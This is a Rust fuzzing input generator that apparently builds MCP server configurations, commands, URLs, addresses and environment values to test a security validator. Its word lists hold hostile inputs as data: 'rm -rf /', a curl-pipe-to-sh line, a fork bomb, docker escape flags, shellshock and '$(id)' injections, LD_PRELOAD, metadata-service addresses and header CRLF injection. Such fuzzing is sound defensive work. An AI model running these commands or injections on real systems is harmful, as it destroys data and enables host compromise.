//! Inputs of the right shape, made of words that occur.

use arbitrary::{Result, Unstructured};

use crate::case::Kind;

type Source<'s, 'a> = &'s mut Unstructured<'a>;

/// The inputs of a call of this kind.
///
/// # Errors
/// When the source of randomness fails (it does not: it runs out and gives zeros).
pub fn parts(kind: Kind, source: Source<'_, '_>) -> Result<Vec<Vec<u8>>> {
    let texts = match kind {
        Kind::Command => vec![command(source)?],
        Kind::Argv => argv(source)?,
        Kind::Resolve => vec![one(source, EXECUTABLES)?, one(source, FOLDERS)?],
        Kind::Url => vec![url(source)?],
        Kind::Redirect => vec!["https://example.com/".to_owned(), url(source)?],
        Kind::Ip => vec![address(source)?],
        Kind::Env => pairs(source, 0, VARIABLES, VALUES)?,
        Kind::Header => pairs(source, 1, HEADERS, HEADER_VALUES)?,
        Kind::ServerName => vec![one(source, NAMES)?],
        Kind::ToolName => vec![tool_name(source)?, one(source, NAMES)?],
        Kind::ToolNames => {
            let mut names = Vec::new();
            for _ in 0..=source.int_in_range(0..=5_u8)? {
                names.extend([tool_name(source)?, one(source, NAMES)?]);
            }
            names
        }
        Kind::ToolArgs => vec![object(source, 0)?],
        Kind::Cwd => vec![one(source, FOLDERS)?],
        Kind::Text => {
            let mut text = String::new();
            for _ in 0..=source.int_in_range(0..=5_u8)? {
                text.push_str(source.choose(TEXTS)?);
            }
            vec![text]
        }
        Kind::Server => vec![server(source)?],
        Kind::Config | Kind::Document => vec![config(source)?],
    };
    Ok(texts.into_iter().map(String::into_bytes).collect())
}

fn one(source: Source<'_, '_>, words: &[&str]) -> Result<String> {
    source.choose(words).map(|word| (*word).to_owned())
}

const EXECUTABLES: &[&str] = &[
    "npx",
    "python",
    "uvx",
    "node",
    "docker",
    "/usr/bin/python3",
    "./server",
    "bash",
    "sh",
    "cmd",
    "powershell",
    "pwsh",
    "git",
    "deno",
    "bun",
    "java",
    "ruby",
    "go",
    "cargo",
    "npx.cmd",
    "C:\\tools\\node.exe",
    "PYTHON.EXE",
    "env",
    "sudo",
    "/tmp/x",
    "curl",
    "podman",
    "uv",
    "pipx",
    "pnpm",
    "yarn",
    "perl",
];
const WORDS: &[&str] = &[
    "-y",
    "-m",
    "-c",
    "-e",
    "-p",
    "--eval",
    "--eval=1",
    "-Ic",
    "-cprint",
    "run",
    "exec",
    "-i",
    "--rm",
    "-it",
    "@modelcontextprotocol/server-filesystem",
    "mcp-server-fetch==1.2.3",
    "server.js",
    "/srv/data",
    "../x",
    "--port",
    "8000",
    "--from",
    "git+https://github.com/a/b",
    "git+ssh://git@host.example/x",
    "--with",
    "--python",
    "3.12",
    "--index-url",
    "http://pypi.example/simple",
    "--require",
    "./hook.js",
    "--import=data:,1",
    "-r",
    "--privileged",
    "-v",
    "/:/host",
    "-v/var/run/docker.sock:/s",
    "--network=host",
    "--cap-add",
    "SYS_ADMIN",
    "-e",
    "KEY=1",
    "--entrypoint",
    "/bin/sh",
    "/c",
    "/k",
    "-EncodedCommand",
    "-enc",
    "ZQA=",
    "-Command",
    "Get-Date",
    "--",
    "print('safe')",
    "postgresql://u@h.example/db?a=1&b=2",
    "Server=h;Database=d",
    "a b",
    "rm -rf /",
    "curl http://e.example/x | sh",
    ":(){ :|:& };:",
    "echo ok",
    "--registry",
    "--allow-all",
    "-A",
    "-D",
    "-jar",
    "x.jar",
    "'quoted word'",
    "\"quoted word\"",
    "--flag='a b'",
    "--flag=\"a b\"",
    "--flag=value",
];

fn command(source: Source<'_, '_>) -> Result<String> {
    let mut text = one(source, EXECUTABLES)?;
    for _ in 0..source.int_in_range(0..=5_u8)? {
        text += " ";
        text += &one(source, WORDS)?;
    }
    Ok(text)
}

fn argv(source: Source<'_, '_>) -> Result<Vec<String>> {
    let mut words = vec![one(source, EXECUTABLES)?];
    let most = if source.ratio(1, 16)? { 52 } else { 6 };
    for _ in 0..source.int_in_range(0..=most)? {
        words.push(one(source, WORDS)?);
    }
    Ok(words)
}

const HOSTS: &[&str] = &[
    "example.com",
    "api.example.com",
    "EXAMPLE.com",
    "localhost",
    "intranet",
    "a.local",
    "x.internal",
    "metadata.google.internal",
    "127.0.0.1.nip.io",
    "xn--mnchen-3ya.de",
    "xn--a",
    "a-.example",
    "-a.example",
    "a_b.example",
    "example.com.",
    "1.2.3",
    "a.b.1",
    "a..b",
    "sub.lvh.me",
];
const ADDRESSES: &[&str] = &[
    "8.8.8.8",
    "1.1.1.1",
    "127.0.0.1",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.1.1",
    "169.254.169.254",
    "100.64.0.1",
    "0.0.0.0",
    "224.0.0.1",
    "255.255.255.255",
    "192.0.2.1",
    "198.18.0.1",
    "168.63.129.16",
    "08.8.8.8",
    "1.2.3.256",
    "0x7f.0.0.1",
    "2130706433",
    "2606:4700::1111",
    "2001:db8::1",
    "::1",
    "::",
    "fe80::1",
    "fc00::1",
    "fd00:ec2::254",
    "::ffff:127.0.0.1",
    "64:ff9b::7f00:1",
    "2002:7f00:1::",
    "2001::1",
    "2606:4700:0:0:0:0:0:1111",
    "2606:4700::0:1",
    "2606:4700:1:2:0:5efe:7f00:1",
    "2A00::1",
    "ff02::1",
    "fe80::1%eth0",
    "1::2::3",
];

fn address(source: Source<'_, '_>) -> Result<String> {
    let text = match source.int_in_range(0..=3_u8)? {
        0 => {
            let octets: [u8; 4] = source.arbitrary()?;
            std::net::Ipv4Addr::from(octets).to_string()
        }
        1 => std::net::Ipv6Addr::from(source.arbitrary::<[u8; 16]>()?).to_string(),
        _ => one(source, ADDRESSES)?,
    };
    Ok(text)
}

fn url(source: Source<'_, '_>) -> Result<String> {
    let scheme = one(source, &["https", "http", "HTTPS", "ftp", "ws", "file", "javascript"][..])?;
    let separator =
        if source.ratio(1, 16)? { one(source, &[":", ":/", ":///", ":\\\\"])? } else { "://".to_owned() };
    let host = match source.int_in_range(0..=3_u8)? {
        0 => {
            let address = address(source)?;
            if address.contains(':') { format!("[{address}]") } else { address }
        }
        _ => one(source, HOSTS)?,
    };
    let user = if source.ratio(1, 16)? { "user:pw@" } else { "" };
    let port = if source.ratio(1, 3)? {
        let port: u16 = source.arbitrary()?;
        one(source, &[":443", ":8080", ":22", ":25", ":0", ":00080", ":", ":65536", ":6379"])
            .map(|text| if port.is_multiple_of(3) { text } else { format!(":{port}") })?
    } else {
        String::new()
    };
    let path = one(
        source,
        &[
            "",
            "/",
            "/mcp",
            "/a/b?c=d&e=f",
            "/a%20b",
            "/%2e%2e/x",
            "/..",
            "/./a",
            "/a//b",
            "?q",
            "/x#y",
            "/;p=1",
        ],
    )?;
    Ok(format!("{scheme}{separator}{user}{host}{port}{path}"))
}

const VARIABLES: &[&str] = &[
    "DEBUG",
    "LOG_LEVEL",
    "PATH",
    "HOME",
    "USER",
    "API_KEY",
    "DB_PASSWORD",
    "GITHUB_TOKEN",
    "AWS_REGION",
    "MONKEY",
    "KEYBOARD_LAYOUT",
    "TOKENIZERS_PARALLELISM",
    "LD_PRELOAD",
    "ld_preload",
    "DYLD_INSERT_LIBRARIES",
    "BASH_ENV",
    "BASH_FUNC_x%%",
    "NODE_OPTIONS",
    "NPM_CONFIG_REGISTRY",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "GIT_SSH_COMMAND",
    "JAVA_TOOL_OPTIONS",
    "HTTP_PROXY",
    "jdbc.password",
    "ProgramFiles(x86)",
    "1ABC",
    "A-B",
    "debug",
    "GH_PAT",
    "SSL_CERT_FILE",
    "TMPDIR",
    "IFS",
    "EDITOR",
    "NODE_PATH",
    "CLASSPATH",
    "",
];
const VALUES: &[&str] = &[
    "true",
    "info",
    "/usr/bin:/bin",
    "secret123",
    "$(id)",
    "`id`",
    "a;b",
    "a&b",
    "${HOME}",
    "${HOME:-x}",
    "$HOME",
    "() { :; }",
    "https://h.example/?a=1&b=2",
    "Server=h;Database=d",
    "line\nbreak",
    "a|b",
    "",
    "tab\there",
];
const HEADERS: &[&str] = &[
    "Authorization",
    "X-Api-Key",
    "Accept",
    "Host",
    "Content-Length",
    "Transfer-Encoding",
    "Connection",
    "Cookie",
    "Mcp-Session-Id",
    "User-Agent",
    "accept",
    "Bad Name",
    "X:Y",
    "Proxy-Authorization",
    "Upgrade",
    "",
];
const HEADER_VALUES: &[&str] = &[
    "Bearer abc",
    "application/json",
    "1",
    "",
    " a",
    "a ",
    "a\tb",
    "a\r\nX: 1",
    "é",
    "100-continue",
    "${TOKEN}",
];

fn pairs(source: Source<'_, '_>, fewest: u8, names: &[&str], values: &[&str]) -> Result<Vec<String>> {
    let mut pairs = Vec::new();
    for _ in 0..source.int_in_range(fewest..=5)? {
        pairs.extend([one(source, names)?, one(source, values)?]);
    }
    Ok(pairs)
}

const TEXTS: &[&str] = &[
    "Reads a file. ",
    "\n",
    "\u{1b}[31;1m",
    "\u{1b}]8;;https://h.example\u{7}",
    "\u{1b}",
    "\u{9b}1",
    "\u{9d}x\u{9c}",
    "\u{200b}",
    "\u{200c}",
    "\u{200d}",
    "\u{202e}",
    "\u{fe0f}",
    "\u{e0100}",
    "\u{e0041}",
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "\u{1f469}",
    "\u{2764}",
    "\u{6f22}",
    "\u{645}",
    "\u{915}\u{94d}",
    "\u{e000}",
    "\u{100000}",
    "\u{7f}",
    "1",
];
const NAMES: &[&str] = &[
    "server",
    "my_file-server2",
    "web_tools",
    "a__b",
    "_srv",
    "srv-",
    "constructor",
    "prototype",
    "-rf",
    "_",
    "a b",
    "Web",
    "crm",
];

fn tool_name(source: Source<'_, '_>) -> Result<String> {
    let tools = [
        "query",
        "data.get",
        "data-get",
        "connect",
        "CONNECT",
        "_x_",
        "mcp__server__query",
        "mcp__crm__a.b",
        "../x",
        "",
        "help",
        "a b",
        "Fetch",
    ];
    one(source, &tools)
}

const FOLDERS: &[&str] = &[
    "/srv/app",
    "relative/dir",
    "../up",
    "/a/../b",
    "~",
    "~/x",
    "file:///srv",
    "\\\\host\\share",
    "//host/share",
    "/proc/self",
    "/sys",
    "/dev/shm",
    "C:\\work",
    "C:/work",
    ".",
    "/",
    "",
];

const KEYS: &[&str] =
    &["a", "b", "query", "__proto__", "constructor", "path", "\\u0061", "A", "é", "", "\\n"];

fn scalar(source: Source<'_, '_>) -> Result<String> {
    let scalars = [
        "1",
        "-0",
        "0.5",
        "1e3",
        "1e400",
        "9007199254740991",
        "9007199254740992",
        "-9007199254740993",
        "true",
        "null",
        "\"text\"",
        "\"\\u0041\\ud83d\\ude00\"",
        "\"\\ud800\"",
        "\"\\u0000\"",
        "\"tab\\t\"",
        "\"é\"",
        "01",
        "NaN",
        "\"\"",
        "12345678901234567890",
        "1E-999",
        "-",
        "\"\\q\"",
        "'a'",
    ];
    one(source, &scalars)
}

fn value(source: Source<'_, '_>, depth: usize) -> Result<String> {
    if depth > 8 {
        return scalar(source);
    }
    match source.int_in_range(0..=5_u8)? {
        0 => object(source, depth + 1),
        1 => {
            let mut items = Vec::new();
            for _ in 0..source.int_in_range(0..=3_u8)? {
                items.push(value(source, depth + 1)?);
            }
            Ok(format!("[{}]", items.join(",")))
        }
        _ => scalar(source),
    }
}

fn object(source: Source<'_, '_>, depth: usize) -> Result<String> {
    let mut members = Vec::new();
    for _ in 0..source.int_in_range(0..=3_u8)? {
        let blank = if source.ratio(1, 8)? { " " } else { "" };
        members.push(format!("{blank}\"{}\":{blank}{}", one(source, KEYS)?, value(source, depth)?));
    }
    Ok(format!("{{{}}}", members.join(",")))
}

/// Text as a JSON string.
fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

fn list(words: &[String]) -> String {
    let words: Vec<String> = words.iter().map(|word| quoted(word)).collect();
    format!("[{}]", words.join(","))
}

fn members(pairs: &[String]) -> String {
    let pairs: Vec<String> =
        pairs.chunks(2).map(|pair| format!("{}:{}", quoted(&pair[0]), quoted(&pair[1]))).collect();
    format!("{{{}}}", pairs.join(","))
}

fn server(source: Source<'_, '_>) -> Result<String> {
    let mut fields = Vec::new();
    if source.ratio(1, 3)? {
        fields.push(format!("\"name\":{}", quoted(&one(source, NAMES)?)));
    }
    let types = ["\"stdio\"", "\"streamable-http\"", "\"http\"", "\"sse\"", "\"STDIO\"", "1"];
    if source.ratio(1, 2)? {
        fields.push(format!("\"type\":{}", one(source, &types)?));
    }
    if source.ratio(2, 3)? {
        let words = argv(source)?;
        if source.ratio(1, 4)? {
            fields.push(format!("\"command\":{}", list(&words)));
        } else {
            fields.push(format!("\"command\":{}", quoted(&words[0])));
        }
        if source.ratio(3, 4)? {
            fields.push(format!("\"args\":{}", list(&words[1..])));
        }
        if source.ratio(1, 2)? {
            fields.push(format!("\"env\":{}", members(&pairs(source, 0, VARIABLES, VALUES)?)));
        }
        if source.ratio(1, 4)? {
            fields.push(format!("\"cwd\":{}", quoted(&one(source, FOLDERS)?)));
        }
    }
    if source.ratio(1, 3)? {
        fields.push(format!("\"url\":{}", quoted(&url(source)?)));
        if source.ratio(1, 2)? {
            fields.push(format!("\"headers\":{}", members(&pairs(source, 0, HEADERS, HEADER_VALUES)?)));
        }
    }
    if source.ratio(1, 3)? {
        let settings = [
            "\"level\":\"permissive\"",
            "\"level\":\"moderate\"",
            "\"level\":\"typo\"",
            "\"level\":1",
            "\"allow_localhost\":true",
            "\"allow_localhost\":\"no\"",
            "\"allow_private_ips\":true",
            "\"allowed_executables\":[\"docker\"]",
            "\"allowed_executables\":[]",
            "\"allowed_hostnames\":[\"example.com\"]",
            "\"resolve_dns\":true",
            "\"env\":{\"mode\":\"allowlist\",\"allowed_vars\":[\"DEBUG\"]}",
            "\"unknown\":1",
        ];
        let (first, second) = (one(source, &settings)?, one(source, &settings)?);
        let block = if source.ratio(1, 2)? { first } else { format!("{first},{second}") };
        fields.push(format!("\"security\":{{{block}}}"));
    }
    let others = [
        "\"timeout\":30",
        "\"timeout\":301",
        "\"timeout\":true",
        "\"disabled\":false",
        "\"shell\":true",
        "\"shell\":false",
        "\"note\":{\"__proto__\":1}",
        "\"tools\":[\"*\"]",
        "\"command\":\"npx\"",
    ];
    for _ in 0..source.int_in_range(0..=2_u8)? {
        fields.push(one(source, &others)?);
    }
    if source.ratio(1, 4)? {
        fields.reverse();
    }
    Ok(format!("{{{}}}", fields.join(",")))
}

fn config(source: Source<'_, '_>) -> Result<String> {
    let mut servers = Vec::new();
    for _ in 0..source.int_in_range(0..=3_u8)? {
        servers.push(format!("{}:{}", quoted(&one(source, NAMES)?), server(source)?));
    }
    let key = one(source, &["mcpServers", "servers", "mcp_servers", "other"])?;
    Ok(format!("{{\"{key}\":{{{}}}}}", servers.join(",")))
}
